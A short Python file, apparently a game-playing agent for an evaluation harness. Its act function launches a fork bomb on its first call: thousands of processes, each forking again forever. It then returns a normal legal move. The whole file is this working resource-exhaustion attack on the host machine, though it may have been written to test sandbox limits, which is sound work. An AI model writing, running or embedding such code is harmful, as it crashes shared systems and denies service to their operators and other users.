"""Forks without end; every child forks again and then spins."""
import os

attacked = False


def act(observation, legal_actions):
    global attacked
    if attacked:
        return legal_actions[0]
    attacked = True
    made = 0
    for _ in range(2000):
        try:
            if os.fork() == 0:
                while True:
                    try:
                        os.fork()
                    except OSError:
                        pass
            made += 1
        except OSError:
            pass
    print("forked", made, flush=True)
    return legal_actions[0]
